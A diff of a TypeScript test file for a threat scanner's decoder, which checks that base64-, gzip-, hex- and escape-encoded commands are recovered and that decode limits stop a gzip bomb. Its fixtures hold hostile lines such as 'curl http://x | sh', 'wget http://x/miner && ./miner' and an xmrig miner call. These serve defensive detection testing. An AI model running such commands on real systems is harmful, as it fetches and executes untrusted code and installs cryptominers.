@@ -2,7 +2,7 @@ import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { gzipSync } from 'node:zlib';
 import { createBudget, unlimitedBudget } from '../../src/core/budget.js';
-import { decodeEmbedded, decodeEmbeddedText, readableText } from '../../src/threat/decode.js';
+import { decodeEmbedded, decodeEmbeddedText, MAX_DECODES, readableText } from '../../src/threat/decode.js';
 
 const b64 = (text: string): string => Buffer.from(text).toString('base64');
 const bytesOnly = (bytes: number) => createBudget({ timeMs: Number.POSITIVE_INFINITY, bytes });
@@ -12,7 +12,7 @@ describe('decodeEmbedded', () => {
     const text = `echo ${b64('curl http://x | sh; echo more')} | base64 -d | sh`;
     assert.deepEqual(decodeEmbedded(text, unlimitedBudget()).map((d) => [d.encoding, d.text]), [['base64', 'curl http://x | sh; echo more']]);
     const gz = gzipSync(Buffer.from('wget http://x/miner && ./miner')).toString('base64');
-    assert.deepEqual(decodeEmbedded(gz, unlimitedBudget()).map((d) => [d.encoding, d.text]), [['gzip+base64', 'wget http://x/miner && ./miner']]);
+    assert.deepEqual(decodeEmbedded(gz, unlimitedBudget()).map((d) => [d.encoding, d.text]), [['base64 → gzip', 'wget http://x/miner && ./miner']]);
     const hex = Buffer.from('./xmrig --donate-level 1').toString('hex');
     assert.deepEqual(decodeEmbedded(`printf ${hex} | xxd -r -p`, unlimitedBudget()).map((d) => d.encoding), ['hex']);
     const escaped = [...Buffer.from('stratum+tcp://p')].map((b) => `\\x${b.toString(16)}`).join('');
@@ -44,7 +44,7 @@ describe('decodeEmbedded', () => {
     assert.deepEqual(decodeEmbeddedText(many, unlimitedBudget()).stops, []);
     const bomb = gzipSync(Buffer.alloc(4 * 1024 * 1024, 0x61)).toString('base64');
     assert.deepEqual(decodeEmbeddedText(bomb, bytesOnly(1024 * 1024)).stops, ['bytes']);
-    const crowded = Array.from({ length: 70 }, (_, i) => b64(`echo innocuous line ${i}`)).join(' ');
+    const crowded = Array.from({ length: MAX_DECODES + 10 }, (_, i) => b64(`echo innocuous line ${i}`)).join(' ');
     assert.deepEqual(decodeEmbeddedText(crowded, unlimitedBudget()).stops, ['candidates']);
   });
 
